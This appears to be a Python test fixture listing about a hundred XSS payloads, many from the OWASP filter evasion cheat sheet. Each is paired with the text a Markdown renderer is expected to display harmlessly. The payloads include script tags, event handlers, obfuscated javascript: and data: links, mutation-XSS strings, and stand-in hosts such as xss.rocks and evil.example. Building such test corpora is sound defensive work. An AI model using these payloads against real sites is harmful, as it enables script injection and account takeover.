"""Hostile section bodies: what an editor's account, once stolen, might try.

Most come from OWASP's XSS Filter Evasion Cheat Sheet, rewritten where needed to
reach the Markdown parser's link, autolink and reference paths; the rest are
mutation-XSS, Unicode and size tricks. `shown` is text the reader must still see,
as plain text, because the body shows hostile markup instead of dropping it
silently (None where Markdown itself legitimately changes the text).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    name: str
    body: str
    shown: str | None


FULLWIDTH_JAVASCRIPT = "".join(chr(ord(letter) + 0xFEE0) for letter in "javascript")

CORPUS: list[Hostile] = [
    # Raw HTML: Markdown's HTML is off, so every tag is text.
    Hostile("script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    Hostile(
        "script src, upper case",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    ),
    Hostile(
        "img javascript src",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=\"javascript:alert('XSS');\">",
    ),
    Hostile(
        "img mixed-case scheme",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    ),
    Hostile("img onerror", "<img src=x onerror=alert(1)>", "onerror=alert(1)"),
    Hostile(
        "img onmouseover",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "onmouseover=\"alert('xxs')\"",
    ),
    Hostile(
        "img entity-encoded scheme without semicolons",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
        "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=",
    ),
    Hostile(
        "malformed img with quotes",
        '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
        '<SCRIPT>alert("XSS")</SCRIPT>',
    ),
    Hostile("svg onload", "<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    Hostile(
        "svg script",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert(1)</script></svg>",
    ),
    Hostile(
        "svg xlink href",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        'xlink:href="javascript:alert(1)"',
    ),
    Hostile(
        "iframe",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
    ),
    Hostile(
        "object",
        '<object data="javascript:alert(1)"></object>',
        '<object data="javascript:alert(1)"></object>',
    ),
    Hostile(
        "embed data URL",
        '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "<embed src=",
    ),
    Hostile(
        "style element",
        '<style>body{background:url("javascript:alert(1)")}</style>',
        "<style>body{background:url(",
    ),
    Hostile(
        "style attribute",
        '<p style="background-image:url(javascript:alert(1))">styled</p>',
        '<p style="background-image:url(javascript:alert(1))">styled</p>',
    ),
    Hostile(
        "css expression",
        '<div style="width: expression(alert(1))">x</div>',
        "expression(alert(1))",
    ),
    Hostile(
        "raw anchor",
        '<a href="javascript:alert(1)">click</a>',
        '<a href="javascript:alert(1)">click</a>',
    ),
    Hostile(
        "raw anchor with entity-encoded scheme",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        'alert(1)">x</a>',
        '<a href="javascript:alert(1)">x</a>',
    ),
    Hostile(
        "raw anchor with tab entity",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        "ascript:alert(1)",
    ),
    Hostile(
        "raw anchor with &colon;",
        "<a href=javascript&colon;alert(1)>x</a>",
        "<a href=javascript:alert(1)>x</a>",
    ),
    Hostile(
        "base",
        '<base href="javascript:alert(1)//">',
        '<base href="javascript:alert(1)//">',
    ),
    Hostile(
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<meta http-equiv="refresh"',
    ),
    Hostile(
        "form",
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<form action="javascript:alert(1)">',
    ),
    Hostile("body onload", "<body onload=alert(1)>", "<body onload=alert(1)>"),
    Hostile(
        "link stylesheet",
        '<link rel="stylesheet" href="javascript:alert(1)">',
        '<link rel="stylesheet"',
    ),
    Hostile(
        "table background",
        '<table background="javascript:alert(1)">',
        '<table background="javascript:alert(1)">',
    ),
    Hostile(
        "input image",
        '<input type="image" src="javascript:alert(1)">',
        '<input type="image"',
    ),
    Hostile(
        "bgsound",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BGSOUND SRC=",
    ),
    Hostile(
        "behaviour binding",
        '<XSS STYLE="behavior: url(xss.htc);">',
        '<XSS STYLE="behavior: url(xss.htc);">',
    ),
    Hostile(
        "details ontoggle",
        "<details open ontoggle=alert(1)>",
        "<details open ontoggle=alert(1)>",
    ),
    Hostile("marquee onstart", "<marquee onstart=alert(1)>", "onstart=alert(1)"),
    Hostile(
        "video source onerror",
        '<video><source onerror="alert(1)"></video>',
        '<source onerror="alert(1)">',
    ),
    Hostile(
        "template script",
        "<template><script>alert(1)</script></template>",
        "<template><script>",
    ),
    Hostile(
        "custom element onclick",
        "<x onclick=alert(1)>click</x>",
        "<x onclick=alert(1)>click</x>",
    ),
    Hostile(
        "split script tag",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    Hostile(
        "double open bracket",
        '<<SCRIPT>alert("XSS");//<</SCRIPT>',
        '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    ),
    Hostile(
        "html comment",
        "<!--<script>alert(1)</script>-->",
        "<!--<script>alert(1)</script>-->",
    ),
    Hostile(
        "conditional comment",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<SCRIPT>alert('XSS');</SCRIPT>",
    ),
    Hostile(
        "CDATA",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[<script>alert(1)</script>]]>",
    ),
    Hostile(
        "math mutation XSS",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    Hostile(
        "noscript mutation XSS",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<img src=x onerror=alert(1)>",
    ),
    Hostile(
        "HTML block between blank lines",
        "<div>\n\n<script>alert(1)</script>\n\n</div>",
        "<script>alert(1)</script>",
    ),
    Hostile(
        "entity-encoded script",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script>alert(1)</script>",
    ),
    Hostile(
        "long s script",
        "<\u017fcript>alert(1)</\u017fcript>",
        "<\u017fcript>alert(1)</\u017fcript>",
    ),
    # Markdown links: a scheme off the allow-list leaves the whole link as text.
    Hostile(
        "link javascript",
        "[click](javascript:alert(1))",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link mixed-case javascript",
        "[click](JaVaScRiPt:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
    ),
    Hostile(
        "link javascript with title",
        '[click](javascript:alert(1) "title")',
        '[click](javascript:alert(1) "title")',
    ),
    Hostile(
        "link scheme as decimal entity",
        "[click](javascript&#58;alert(1))",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link first letter as entity",
        "[click](&#106;avascript:alert(1))",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link zero-padded entity",
        "[click](&#0000106;avascript:alert(1))",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link hex entities",
        "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;"
        "&#x3A;alert(1))",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link &colon; entity",
        "[click](javascript&colon;alert(1))",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link embedded tab entity",
        "[click](jav&#x09;ascript:alert(1))",
        "[click](jav\tascript:alert(1))",
    ),
    Hostile(
        "link embedded newline entity",
        "[click](jav&#x0A;ascript:alert(1))",
        "ascript:alert(1))",
    ),
    Hostile(
        "link embedded carriage return entity",
        "[click](jav&#x0D;ascript:alert(1))",
        "ascript:alert(1))",
    ),
    Hostile(
        "link bracketed with real tab",
        "[click](<jav\tascript:alert(1)>)",
        "ascript:alert(1)",
    ),
    Hostile(
        "link percent-encoded letter",
        "[click](%6Aavascript:alert(1))",
        "[click](%6Aavascript:alert(1))",
    ),
    Hostile(
        "link leading space",
        "[click](  javascript:alert(1))",
        "[click](  javascript:alert(1))",
    ),
    Hostile(
        "link leading control character",
        "[click](\x01javascript:alert(1))",
        "javascript:alert(1))",
    ),
    Hostile(
        "link NUL inside scheme",
        "[click](java\x00script:alert(1))",
        "script:alert(1))",
    ),
    Hostile(
        "link zero-width space inside scheme",
        "[click](java\u200bscript:alert(1))",
        "[click](java\u200bscript:alert(1))",
    ),
    Hostile(
        "link fullwidth scheme",
        f"[click]({FULLWIDTH_JAVASCRIPT}:alert(1))",
        f"[click]({FULLWIDTH_JAVASCRIPT}:alert(1))",
    ),
    Hostile(
        "link right-to-left override",
        "[click](\u202ejavascript:alert(1))",
        "javascript:alert(1))",
    ),
    Hostile(
        "link vbscript", "[click](vbscript:msgbox(1))", "[click](vbscript:msgbox(1))"
    ),
    Hostile(
        "link data text/html",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](data:text/html;base64,",
    ),
    Hostile(
        "link upper-case data with script",
        "[click](DATA:text/html,<script>alert(1)</script>)",
        "[click](DATA:text/html,<script>alert(1)</script>)",
    ),
    Hostile("link file", "[click](file:///etc/passwd)", "[click](file:///etc/passwd)"),
    Hostile(
        "link protocol-relative",
        "[click](//evil.example/steal)",
        "[click](//evil.example/steal)",
    ),
    Hostile(
        "link backslash host", "[click](/\\evil.example)", "[click](/\\evil.example)"
    ),
    Hostile(
        "link to internal scheme hiding javascript",
        "[click](article:javascript:alert(1))",
        "click",
    ),
    Hostile(
        "link nested inside link",
        "[[click](javascript:alert(1))](http://example.com)",
        "[click](javascript:alert(1))",
    ),
    Hostile(
        "link very long javascript",
        "[click](javascript:" + "a" * 10_000 + ")",
        "[click](javascript:aaaa",
    ),
    Hostile(
        "link title breaking out of attribute",
        '[click](http://example.com "\\" onmouseover=\\"alert(1)")',
        "click",
    ),
    Hostile(
        "link single-quoted title breaking out",
        "[click](http://example.com 'x\\' onclick=alert(1) ')",
        "click",
    ),
    Hostile(
        "link URL with quote",
        '[click](http://example.com/"onmouseover="alert(1))',
        "click",
    ),
    Hostile(
        "link URL with angle brackets",
        "[click](http://example.com/<script>)",
        "click",
    ),
    Hostile(
        "fragment link trying to close the attribute",
        '[click](#" onclick="alert(1))',
        '[click](#" onclick="alert(1))',
    ),
    Hostile(
        "mailto with markup in the query",
        "[mail](mailto:a@example.com?subject=<script>alert(1)</script>)",
        "mail",
    ),
    # Autolinks.
    Hostile("autolink javascript", "<javascript:alert(1)>", "<javascript:alert(1)>"),
    Hostile("autolink upper case", "<JAVASCRIPT:alert(1)>", "<JAVASCRIPT:alert(1)>"),
    Hostile("autolink vbscript", "<vbscript:msgbox(1)>", "<vbscript:msgbox(1)>"),
    Hostile(
        "autolink data",
        "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<data:text/html;base64,",
    ),
    Hostile("bare javascript text", "javascript:alert(1)", "javascript:alert(1)"),
    # Reference-style links.
    Hostile(
        "reference javascript",
        "[click][x]\n\n[x]: javascript:alert(1)",
        "[x]: javascript:alert(1)",
    ),
    Hostile(
        "reference data",
        "[click][x]\n\n[x]: data:text/html,<script>alert(1)</script>",
        "[x]: data:text/html,<script>alert(1)</script>",
    ),
    Hostile(
        "reference title breaking out",
        '[click][x]\n\n[x]: http://example.com "a\\" onmouseover=\\"alert(1)"',
        "click",
    ),
    # Images are not part of the house style: never an <img>.
    Hostile("image javascript", "![img](javascript:alert(1))", "![img](javascript:"),
    Hostile(
        "image with onerror in URL",
        '![img](http://example.com/x.png" onerror="alert(1))',
        "img",
    ),
    Hostile("image plain", "![scan](http://example.com/scan.png)", "scan"),
    # Markup inside other Markdown constructs.
    Hostile(
        "fenced code info string",
        '```js" onload="alert(1)\n<script>alert(1)</script>\n```',
        "<script>alert(1)</script>",
    ),
    Hostile("code span", "`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    Hostile(
        "table cell",
        "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
        "<img src=x onerror=alert(1)>",
    ),
    Hostile("heading", "# <script>alert(1)</script>", "<script>alert(1)</script>"),
    Hostile(
        "raw anchor after a good link",
        "[ok](http://example.com) <a onmouseover=alert(1)>x</a>",
        "<a onmouseover=alert(1)>x</a>",
    ),
    # Size and depth.
    Hostile("many script tags", "<script>" * 5_000, "<script><script>"),
    Hostile(
        "deep blockquotes around a bad link",
        ">" * 1_000 + " [x](javascript:alert(1))",
        None,
    ),
    Hostile(
        "many open brackets before a bad link",
        "[" * 5_000 + "x](javascript:alert(1))",
        "x](javascript:alert(1))",
    ),
    Hostile(
        "deep list around raw HTML",
        "\n".join("  " * i + "- <img src=x onerror=alert(1)>" for i in range(300)),
        None,
    ),
]
